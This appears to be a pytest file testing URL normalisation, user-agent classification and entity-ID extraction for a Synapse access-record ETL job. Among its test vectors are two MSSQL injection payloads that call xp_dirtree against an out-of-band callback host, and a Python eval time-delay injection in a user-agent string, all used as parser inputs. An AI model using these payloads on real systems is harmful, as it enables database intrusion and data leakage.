"""The reference's 76-case corpus (tests/test_process_access_record.py)
ported as test vectors against the vectorized pandas implementations, plus
a DataFrame-level check that the pandas UDF wiring matches."""

import sys

import pandas as pd
import pytest

from synapse_etl_jobs_spark.functions import access_record as ar

SIGNATURE_CASES = [
    ("start/repo/v1/entity/md5/132-456thfd", "/entity/md5/#"),
    ("any/repo/v1/evaluation/name/test/random", "/evaluation/name/#"),
    ("repo/v1/entity/alias/XYZNDY", "/entity/alias/#"),
    ("repo/v1/entity/syn123456/random/123", "/entity/#/random/#"),
    ("start/repo/entity/syn123456", "INVALID URL"),
    ("repo/v1/admin/locks", "/admin/locks"),
    ("/repo/v1/entity/syn35487770%20", "/entity/#"),
    ("/repo/v1/entity/%20syn24829449/annotations2", "/entity/#/annotations2"),
    ("/file/v1/entity/syn52201498%20%20/uploadDestination", "/entity/#/uploaddestination"),
    ("/repo/v1/accessRequirement/%5B9605670%5D/submissions", "/accessrequirement/#/submissions"),
    (
        "/repo/v1/entity/syn51718024.1/table/transaction/async/get/28738082",
        "/entity/#/table/transaction/async/get/#",
    ),
    ("/repo/v1/entity/syn6131484/wiki/402033@", "/entity/#/wiki/#"),
    (
        "/repo/v1/entity/syn4939906/wiki/235909;%20Combination%20Index%20Validation%20Studies"
        "%20(2%20drug%20combinations)%20-%20syn4939876%20-%20Wiki%20(Synapse | Sage Bionetworks ",
        "/entity/#/wiki/#",
    ),
    ("/repo/v1/entity/syn3193805/wiki/;D12", "/entity/#/wiki/"),
    ("/repo/v1/entity/syn2811262/wiki2/78388;/wikihistory", "/entity/#/wiki2/#/wikihistory"),
    ("/repo/v1/entity/syn2811262/wiki2/78388;DA12/wikihistory", "/entity/#/wiki2/#/wikihistory"),
    ("/file/v1/entity/syn51320810%0A/uploadDestination", "/entity/#/uploaddestination"),
    ("/repo/v1/entity/syn26592177%0A%0A/bundle2", "/entity/#/bundle2"),
    ("/repo/v1/entity/syn50920803%0D%0D/annotations2", "/entity/#/annotations2"),
    ("/repo/v1/entity/syn50920803%0D%0D/bundle2", "/entity/#/bundle2"),
    ("/file/v1/entity/%09%0Asyn51770520/uploadDestination", "/entity/#/uploaddestination"),
    (
        "/ga4gh/drs/v1/objects/syn27076339.1/access/FileEntity_syn27076339.1_88312772",
        "/objects/#/access/#",
    ),
    ("/ga4gh/drs/v1/objects/fh127243131/access/127243131", "/objects/#/access/#"),
    ("/ga4gh/drs/v1/objects/syn35423183.1", "/objects/#"),
    ("/ga4gh/drs/v1/objects/fh123", "/objects/#"),
    (
        "/repo/v1/schema/type/registered/a245ac37480fc40739836ce61801d19f1-my.schema-0.36652.1",
        "/schema/type/registered/#",
    ),
    ("/repo/v1/evaluation/submission/9720221_curl_168/status", "/evaluation/submission/#/status"),
    ("/repo/v1/evaluation/submission/9720221_curl_168/file/123", "/evaluation/submission/#/file/#"),
    ("/repo/v1/dataAccessSubmission/7416vr", "/dataaccesssubmission/#"),
    ("/repo/v1/entity/syn9692796/version/98", "/entity/#/version/#"),
    ("/repo/v1/entity/syn25830585/version/1/json", "/entity/#/version/#/json"),
    ("/repo/v1/teamMembers/3431460&limit=50&offset=0", "/teammembers/#"),
    ("/repo/v1/team/3409011'", "/team/#"),
    ("/repo/v1/team/3409011)", "/team/#"),
    ("/repo/v1/team/3409011,", "/team/#"),
    ("/repo/v1/team/3409011.", "/team/#"),
    (
        "/repo/v1/user/bundle;declare%20@q%20varchar(99);set%20@q='%5C%5Cb2eg7v959m35phq0mzthf"
        "sysajgf491a0yroff72xqm.oasti'+'fy.com%5Cfmt';%20exec%20master.dbo.xp_dirtree%20@q;--%20",
        "/user/bundle",
    ),
    ("/auth/v1/2fa/enroll", "/2fa/enroll"),
    (
        "/repo/v1;declare%20@q%20varchar(99);set%20@q='%5C%5Caq4fvux4xlr4dgezayhg3rmryi4es8p9oxfn3"
        "kqbe0.oasti'+' %5Cicr';%20exec%20master.dbo.xp_dirtree%20@q;--%20/user/bundle",
        "INVALID URL",
    ),
]

CLIENT_CASES = [
    ("Synapse-Web-Client/435.0", "WEB"),
    ("Synapse-Java-Client/431.0", "JAVA"),
    ("Synpase-Java-Client/434.0", "JAVA"),
    ("synapser/0.15.33synapseclient/2.7.0 python-requests/2.28.2", "SYNAPSER"),
    ("synapseRClient/test", "R"),
    ("synapsecommandlineclient/test", "COMMAND_LINE"),
    ("python/synapseclient/test", "PYTHON"),
    ("ELB-HealthChecker/2.0", "ELB_HEALTHCHECKER"),
    ("test/SynapseRepositoryStack/432", "STACK"),
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/105.0.0.0 Safari/537.36",
        "WEB",
    ),
    ("Opera/9.80 (Windows NT 6.1; U; zh-cn) Presto/2.6.37 Version/11.00", "WEB"),
    ("chrome", "WEB"),
    ("firefox", "WEB"),
    ("Lynx/2.8.5rel.5 libwww-FM/2.14 SSL-MM/1.4.1 OpenSSL/0.9.8e", "WEB"),
    (
        "UCWEB/2.0 (MIDP-2.0; U; Adr 4.4.4; en-US; SM-G360H) U2/1.0.0 UCBrowser/10.9.0.946 "
        "U2/1.0.0 Mobile",
        "WEB",
    ),
    (
        "eval(compile('for x in range(1):\\n import time\\n time.sleep(20)','a','single')) "
        "qdnui440vl1",
        "UNKNOWN",
    ),
    (None, "UNKNOWN"),
]

VERSION_CASES = [
    ("WEB", "Synapse-Java-Client/431.0 Synapse-Web-Client/435.0", "435.0"),
    ("JAVA", "Synapse-Java-Client/431.0", "431.0"),
    ("JAVA", "Synpase-Java-Client/434.0", "434.0"),
    ("SYNAPSER", "synapser/0.15.33", "0.15.33"),
    ("R", "synapseRClient/2", "2"),
    ("COMMAND_LINE", "synapsecommandlineclient/123", "123"),
    ("PYTHON", "synapseclient/4.0", "4.0"),
    ("ELB_HEALTHCHECKER", "ELB-HealthChecker/2.0", "2.0"),
    ("STACK", "SynapseRepositoryStack/432", "432"),
    (
        "WEB",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/105.0.0.0 Safari/537.36",
        "5.0",
    ),
    ("WEB", "Opera/9.80 (Windows NT 6.1; U; zh-cn) Presto/2.6.37 Version/11.0", "9.80"),
    ("WEB", "Lynx/2.8.5rel.5 libwww-FM/2.14 SSL-MM/1.4.1 OpenSSL/0.9.8e", "2.8.5rel.5"),
    (
        "WEB",
        "UCWEB/2.0 (MIDP-2.0; U; Adr 4.4.4; en-US; SM-G360H) U2/1.0.0 UCBrowser/10.9.0.946 "
        "U2/1.0.0 Mobile",
        "2.0",
    ),
    (
        "WEB",
        "Mozilla/5.0 (X11; Linux i686) AppleWebKit/537.36 (KHTML, like Gecko) Ubuntu "
        "Chromium/115.0.5805.207 Chrome/115.0.5805.207 Safari/537.36",
        "5.0",
    ),
    ("WEB", "chrome", None),
    ("WEB", "Safari/15609.4.1 CFNetwork/1128.0.1 Darwin/19.6.0 (x86_64)", "15609.4.1"),
    ("UNKNOWN", "AwarioSmartBot/1.0 (+https://awario.com/bots.html; bots@awario.com)", None),
    (None, "testClient", None),
    ("STACK", None, None),
]

ENTITY_CASES = [
    ("/repo/v1/entity/syn12223809", 12223809),
    ("/repo/v1/entity/1234", 1234),
    ("/repo/v1/version", None),
    (None, None),
    ("/repo/v1/entity/syn1234/check/syn123456", 1234),
    ("/repo/v1/entity/Syn1234/check", 1234),
    ("/repo/v1/entity/SYN12345.1/check", 12345),
    ("/repo/v1/entity/syn22222222222222222222222222/check", None),
    ("/repo/v1/entity/syn" + str(sys.maxsize) + "/check", sys.maxsize),
]


@pytest.mark.parametrize("url,expected", SIGNATURE_CASES)
def test_normalized_method_signature(url, expected):
    out = ar.normalized_method_signature_series(pd.Series([url]))
    assert out.iloc[0] == expected


@pytest.mark.parametrize("ua,expected", CLIENT_CASES)
def test_client(ua, expected):
    out = ar.client_series(pd.Series([ua], dtype="object"))
    assert out.iloc[0] == expected


@pytest.mark.parametrize("client,ua,expected", VERSION_CASES)
def test_client_version(client, ua, expected):
    out = ar.client_version_series(
        pd.Series([client], dtype="object"), pd.Series([ua], dtype="object")
    )
    assert out.iloc[0] == expected


@pytest.mark.parametrize("url,expected", ENTITY_CASES)
def test_entity_id(url, expected):
    out = ar.entity_id_series(pd.Series([url], dtype="object"))
    assert out.iloc[0] == expected


def test_batched_series_alignment():
    """All cases at once — vectorized paths must not cross rows."""
    urls = pd.Series([c[0] for c in SIGNATURE_CASES])
    out = ar.normalized_method_signature_series(urls)
    assert list(out) == [c[1] for c in SIGNATURE_CASES]

    uas = pd.Series([c[0] for c in CLIENT_CASES], dtype="object")
    assert list(ar.client_series(uas)) == [c[1] for c in CLIENT_CASES]

    clients = pd.Series([c[0] for c in VERSION_CASES], dtype="object")
    vua = pd.Series([c[1] for c in VERSION_CASES], dtype="object")
    assert list(ar.client_version_series(clients, vua)) == [c[2] for c in VERSION_CASES]


def test_spark_udf_wiring(spark):
    """End-to-end through Spark: the full access-record transform."""
    rows = [
        ("GET", "/repo/v1/entity/syn12223809", "Synapse-Web-Client/435.0"),
        ("POST", "start/repo/entity/syn123456", None),
    ]
    df = spark.createDataFrame(rows, "method string, request_url string, user_agent string")
    import pyspark.sql.functions as F

    out = (
        df.withColumn("sig", ar.normalized_method_signature("method", "request_url"))
        .withColumn("client", ar.client_udf("user_agent"))
        .withColumn("client_version", ar.client_version_udf("client", "user_agent"))
        .withColumn("entity_id", ar.entity_id_udf("request_url"))
        .orderBy("method")
        .collect()
    )
    assert out[0]["sig"] == "GET /entity/#"
    assert out[0]["client"] == "WEB"
    assert out[0]["client_version"] == "435.0"
    assert out[0]["entity_id"] == 12223809
    assert out[1]["sig"] == "POST INVALID URL"
    assert out[1]["client"] == "UNKNOWN"
    # entity-id extraction does not require /v1/ (reference :179-195)
    assert out[1]["entity_id"] == 123456


def test_apply_mapping_missing_column_keeps_target_type(spark):
    """Missing-source fallback must produce the REAL target type so
    present/absent batches have identical schemas."""
    from synapse_etl_jobs_spark.operators.mapping import apply_mapping

    df = spark.createDataFrame([(1,)], "a long")
    out = apply_mapping(df, [
        ("a", "bigint", "a", "bigint"),
        ("missing", "decimal(10,2)", "m", "decimal(10,2)"),
    ])
    assert dict(out.dtypes)["m"] == "decimal(10,2)"


def test_read_csv_quarantines_malformed_rows(spark, tmp_path):
    import os

    from pyspark.sql.types import StructType

    from synapse_etl_jobs_spark.sources.readers import quarantine_split, read_csv

    src = str(tmp_path / "csv")
    os.makedirs(src)
    with open(os.path.join(src, "a.csv"), "w") as f:
        f.write('1,"ok"\nnot_an_int,"bad"\n2,"fine"\n')
    schema = StructType().add("id", "long").add("v", "string")
    good, bad = quarantine_split(read_csv(spark, src, schema, multiline=False))
    assert {r["id"] for r in good.collect()} == {1, 2}
    assert bad.count() == 1
